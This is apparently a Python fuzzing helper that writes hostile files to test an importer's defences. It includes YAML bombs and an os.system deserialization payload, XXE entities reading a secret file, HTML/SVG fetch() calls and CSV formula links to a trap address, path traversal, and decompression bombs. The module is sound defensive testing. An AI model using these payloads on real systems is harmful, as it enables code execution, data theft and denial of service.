"""Makes files that mean harm, each the same again for the same seed.

A kind is a function that writes what it needs into a folder and returns the words of the command line
that bring it in. `trap.address` is a server that nothing may connect to, `trap.secret` a file that
nothing may read.
"""

import os
import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

from PIL import Image

Words = list[str]
CONTACTS = ["contacts", "import", "--list", "Friends", "--consent", "Yes"]
GIGABYTE = 1 << 30


@dataclass(frozen=True)
class Trap:
    """What hostile content reaches for."""

    address: str
    secret: Path


Kind = Callable[[random.Random, Path, Trap], Words]


def text(folder: Path, name: str, content: str | bytes) -> Words:
    file = folder / name
    file.write_bytes(content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content)
    return ["import", str(file)]


def noise(dice: random.Random, folder: Path, trap: Trap) -> Words:
    return text(folder, dice.choice(["a.md", "a.txt"]), dice.randbytes(dice.choice([1, 100, 50_000])))


def torn_encoding(dice: random.Random, folder: Path, trap: Trap) -> Words:
    data = ("Größe — “quoted” 家 " * 50).encode(
        dice.choice(
            ["utf-8", "utf-16", "utf-32", "cp1252", "utf-16-be"],
        ),
        "replace",
    )
    return text(
        folder, dice.choice(["a.md", "a.txt"]), data[: dice.randrange(1, len(data))] + b"\xff\xfe\x00"
    )


def mixed_encodings(dice: random.Random, folder: Path, trap: Trap) -> Words:
    parts = [f"Zeile {n} über alles\n".encode(dice.choice(["utf-8", "cp1252", "utf-16"])) for n in range(50)]
    return text(folder, "a.txt", b"".join(parts))


def zeros(dice: random.Random, folder: Path, trap: Trap) -> Words:
    return text(
        folder, dice.choice(["a.md", "a.txt"]), b"Title\n\n" + b"\0" * dice.choice([1, 999, 5_000_000])
    )


def one_long_line(dice: random.Random, folder: Path, trap: Trap) -> Words:
    return text(
        folder, dice.choice(["a.md", "a.txt"]), dice.choice("a *[<>`_#|\\") * dice.choice([10_000, 3_000_000])
    )


def a_gigabyte(dice: random.Random, folder: Path, trap: Trap) -> Words:
    """Write nothing but a length: the file has holes."""
    name, words = dice.choice(
        [("a.md", ["import"]), ("a.txt", ["import"]), ("a.csv", CONTACTS), ("a.png", ["new", "asset"])]
    )
    with (folder / name).open("wb") as file:
        file.truncate(GIGABYTE)
    return [*words, str(folder / name), *(["--alt", "x"] if name == "a.png" else [])]


def nesting(dice: random.Random, folder: Path, trap: Trap) -> Words:
    deep = dice.choice([500, 10_000])
    body = dice.choice(
        [
            ">" * deep + " deep",
            "".join(" " * (2 * n) + "- deep\n" for n in range(min(deep, 2_000))),
            "[" * deep + "x" + "](y)" * deep,
            "*" * deep + "x" + "*" * deep,
            "<div>" * deep,
            "![" * deep + "](" * deep,
            "`" * deep + "x",
            "[^1]" * deep + "\n\n[^1]: " + "[^1]" * deep,
        ]
    )
    return text(folder, "a.md", f"# Deep\n\n{body}\n")


def front_matter_bomb(dice: random.Random, folder: Path, trap: Trap) -> Words:
    laughs = "\n".join(
        f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10) if n else 'ha, ha'}]" for n in range(10)
    )
    head = dice.choice(
        [
            laughs + "\ntags: *a9",
            "title: " + "[" * 5_000,
            "title: " + "{a: " * 3_000,
            "title: !!python/object/apply:os.system ['touch PWNED']",
            "title: !!python/object/new:tuple [[1]]",
            "title: " + "9" * 100_000,
            "date: 99999-99-99",
            "date: 0000-00-00",
            "date: 2027-03-14T25:61:61",
            "title: &x [*x]",
            "? [a, b]\n: c",
            "title: a\ntitle: b\n" * 5_000,
            "tags: " + str([f"t{n}" for n in range(20_000)]),
            "status: sent\nslug: ../../x\nlanguage: " + "x" * 9_000,
            "cover: " + str(trap.secret),
            "cover: ../../../../../../../../etc/passwd",
            f"cover: {trap.address}/x.png",
            "title: \x00\x01\x02",
            "<<: [1, 2]",
            "title: 1e999999\ndate: .nan",
        ]
    )
    return text(folder, "a.md", f"---\n{head}\n---\n\nBody\n")


def reaching_out(dice: random.Random, folder: Path, trap: Trap) -> Words:
    """Name pictures that lie elsewhere: in other folders, in the network, behind links."""
    up = os.path.relpath(trap.secret, folder)
    (folder / "link.png").symlink_to(trap.secret)
    (folder / "folder-link").symlink_to(trap.secret.parent)
    (folder / "endless.png").symlink_to("/dev/zero")
    (folder / "round.png").symlink_to("round.png")
    (folder / "folder.png").mkdir()
    os.mkfifo(folder / "pipe.png")
    places = [
        up,
        str(trap.secret),
        trap.secret.as_uri(),
        up.replace("/", "\\"),
        up.replace(".", "%2e").replace("/", "%2f"),
        "link.png",
        f"folder-link/{trap.secret.name}",
        "endless.png",
        "round.png",
        "folder.png",
        "pipe.png",
        "\\\\127.0.0.1\\share\\x.png",
        "//127.0.0.1/x.png",
        "/dev/zero",
        "/proc/self/mem",
        "/etc/passwd",
        f"{trap.address}/x.png",
        "a\x00.png",
        "x/" * 3_000 + "x.png",
        "CON",
        "nul.png",
        "C:\\Windows\\win.ini",
        "~/x.png",
        "$HOME/x.png",
        "data:image/png;base64," + "A" * 100_000,
        "javascript:alert(1)",
    ]
    dice.shuffle(places)
    return text(folder, "a.md", "# Far\n\n" + "\n\n".join(f"![x](<{place}>)" for place in places))


def markup(dice: random.Random, folder: Path, trap: Trap) -> Words:
    address = trap.address
    pieces = [
        f"<img src='{address}/1.png' onerror='fetch(\"{address}/2\")'>",
        f"<script src='{address}/3.js'></script>",
        f"<link rel=preconnect href='{address}'><link rel=stylesheet href='{address}/4.css'>",
        f"<iframe src='{address}/5'></iframe><object data='{address}/6'></object>",
        f"<!DOCTYPE a [<!ENTITY x SYSTEM 'file://{trap.secret}'>]><a>&x;</a>",
        f"<!DOCTYPE a [<!ENTITY y SYSTEM '{address}/7'>]><a>&y;</a>",
        "<!DOCTYPE l [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY a{n} '{'&a;' * 10}'>" for n in range(9)) + "]>",
        f"<svg onload='fetch(\"{address}/8\")'><image href='{address}/9.png'/></svg>",
        f"![x]({address}/10.png)",
        f"[x]({address}/11)",
        f"@import '{address}/12.css';",
    ]
    dice.shuffle(pieces)
    return text(folder, dice.choice(["a.md", "a.txt"]), "# Markup\n\n" + "\n\n".join(pieces))


def strange_name(dice: random.Random, folder: Path, trap: Trap) -> Words:
    name = dice.choice(
        [
            b"\xff\xfe.md",
            b"a\nb.md",
            b"-as.md",
            b"\xe2\x80\xaegnp.md",
            b"%2e%2e%2fx.md",
            b"a" * 250 + b".md",
            b"CON.md",
            b".md",
            b" .txt",
            b"a\x1b[31m.md",
            b"\xed\xa0\x80.txt",
            b"{{x}}.md",
        ]
    )
    file = folder / os.fsdecode(name)
    file.write_bytes(b"Some words.\n")
    return ["import", str(file)]


def no_file(dice: random.Random, folder: Path, trap: Trap) -> Words:
    os.mkfifo(folder / "pipe.md")
    (folder / "round.md").symlink_to("round.md")
    (folder / "endless.md").symlink_to("/dev/zero")
    (folder / "zero.txt").symlink_to("/dev/urandom")
    (folder / "gone.md").symlink_to("nowhere")
    words = dice.choice(
        [
            ["import", "pipe.md"],
            ["import", "round.md"],
            ["import", "endless.md"],
            ["import", "zero.txt"],
            ["import", "gone.md"],
            ["import", "."],
            ["new", "asset", "pipe.md", "--alt", "x"],
            ["new", "asset", "endless.md", "--alt", "x"],
            [*CONTACTS, "endless.md"],
            [*CONTACTS, "pipe.md"],
        ]
    )
    return [str(folder / word) if word == "." or "." in word else word for word in words]


def strange_folder(dice: random.Random, folder: Path, trap: Trap) -> Words:
    place = folder
    for number in range(dice.choice([1, 60])):
        place /= f"f{number}"
        place.mkdir()
        (place / "a.md").write_text(f"# {number}\n\nWords.")
    (place / "up").symlink_to(folder)
    (place / "out").symlink_to(trap.secret.parent)
    for number in range(dice.choice([0, 300])):
        (folder / f"{number}.zip").touch()
    return ["import", str(folder)]


def another_kind(dice: random.Random, folder: Path, trap: Trap) -> Words:
    name = dice.choice(["a.docx", "a.zip", "a.xml", "a.eml", "a.html", "a.pdf", "a.exe", "a"])
    words = text(folder, name, b"PK\x03\x04" + dice.randbytes(1_000))
    return [*words, *dice.choice([[], ["--as", "markdown"], ["--as", "text"]])]


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, data: bytes = b"", *more: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + b"".join(more)
        + chunk(b"IDAT", data)
        + chunk(b"IEND", b"")
    )


def real(kind: str, dice: random.Random) -> bytes:
    out = BytesIO()
    image = Image.frombytes("RGB", (60, 40), dice.randbytes(60 * 40 * 3))
    image.save(out, kind)
    return out.getvalue()


def frames() -> bytes:
    """Return a moving picture that is small, and large once it is unpacked."""
    images = [Image.new("L", (2_000, 2_000), number) for number in range(60)]
    out = BytesIO()
    images[0].save(out, "GIF", save_all=True, append_images=images[1:])
    return out.getvalue()


def picture_bytes(dice: random.Random, trap: Trap) -> tuple[str, bytes]:
    data = real(dice.choice(["PNG", "JPEG", "GIF", "WEBP", "TIFF", "BMP"]), dice)
    suffix = dice.choice([".png", ".jpg", ".gif", ".webp", ".heic"])
    spoilt = bytearray(data)
    for _time in range(20):
        spoilt[dice.randrange(12, len(spoilt))] = dice.randrange(256)
    drawing = (
        "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script>"
        f"<image href='{trap.address}/s.png'/></svg>"
    )
    long = zlib.compress(b"\0" * 200_000_000) if dice.random() < 0.2 else b"\0" * 100
    choice = dice.choice(
        [
            (".png", png(30_000, 30_000, zlib.compress(b"\0" * 900_000))),
            (".png", png(2**31 - 1, 2**31 - 1)),
            (".png", png(0, 0)),
            (".png", png(100, 100, b"", chunk(b"zTXt", b"a\0\0" + long))),
            (".png", png(100, 100, b"", chunk(b"iCCP", b"a\0\0" + long))),
            (suffix, data[: dice.randrange(1, len(data))]),
            (suffix, bytes(spoilt)),
            (suffix, b""),
            (suffix, dice.randbytes(5_000)),
            (suffix, b"PK\x03\x04" + data),
            (".svg", drawing.encode()),
            (".gif", frames),
            (".png", lambda: png(9_000, 9_000, zlib.compress(b"\0" * 9_000 * 9_000))),
            (".jpg", b"\xff\xd8\xff\xe1\xff\xff" + b"\0" * 70_000),
            (".jpg", b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"),
            (".heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + dice.randbytes(500)),
            (".webp", b"RIFF\xff\xff\xff\xffWEBPVP8X" + dice.randbytes(200)),
        ]
    )
    return choice[0], choice[1] if isinstance(choice[1], bytes) else choice[1]()


def picture(dice: random.Random, folder: Path, trap: Trap) -> Words:
    suffix, data = picture_bytes(dice, trap)
    (folder / f"a{suffix}").write_bytes(data)
    return ["new", "asset", str(folder / f"a{suffix}"), "--alt", "A picture"]


def picture_beside(dice: random.Random, folder: Path, trap: Trap) -> Words:
    suffix, data = picture_bytes(dice, trap)
    (folder / f"a{suffix}").write_bytes(data)
    return text(folder, "a.md", f"# Beside\n\n![x](a{suffix})\n")


def csv(dice: random.Random, folder: Path, trap: Trap) -> Words:
    good = "email,first_name\nann@example.test,Ann\n"
    content = dice.choice(
        [
            ",".join(["email", *["c"] * 1_000_000]) + "\nann@example.test\n",
            "email\n" + "," * 2_000_000,
            good.replace("Ann", "\0"),
            good.encode("utf-16") + b"\xff",
            good.encode() + "Ünï".encode("cp1252") + b"\x00\xff",
            'email\n"' + "a" * 3_000_000,
            'email\n"ann@example.test\n' * 20_000,
            "email\n" + "a" * 5_000_000,
            "email\n" + "ann@example.test\n" * 100_000,
            "email,email,email\na@example.test,b@example.test,c@example.test\n",
            'email,name\n"ann@example.test\r\nBcc: eve@example.test",x\n',
            'email,name\nann@example.test,=HYPERLINK("' + trap.address + '")\n',
            "no heading\n1\n2\n",
            "",
            "\ufeff\ufeffemail\nann@example.test\n",
            "email;name\tx|y\nann@example.test;1\t2|3\n",
            dice.randbytes(20_000),
            "email\n" + "\n".join(f"{'a' * 65}{n}@{'b' * 64}.test" for n in range(2_000)),
            "email," + "x" * 100_000 + "\nann@example.test," + "y" * 1_000_000 + "\n",
            "\r" * 1_000_000 + "email\rann@example.test",
        ]
    )
    text(folder, "a.csv", content)
    return [*CONTACTS, str(folder / "a.csv")]


KINDS: tuple[Kind, ...] = (
    noise,
    torn_encoding,
    mixed_encodings,
    zeros,
    one_long_line,
    a_gigabyte,
    nesting,
    front_matter_bomb,
    reaching_out,
    markup,
    strange_name,
    no_file,
    strange_folder,
    another_kind,
    picture,
    picture_beside,
    csv,
)
QUICK = (noise, nesting, front_matter_bomb, reaching_out, markup, no_file, picture_beside, csv)
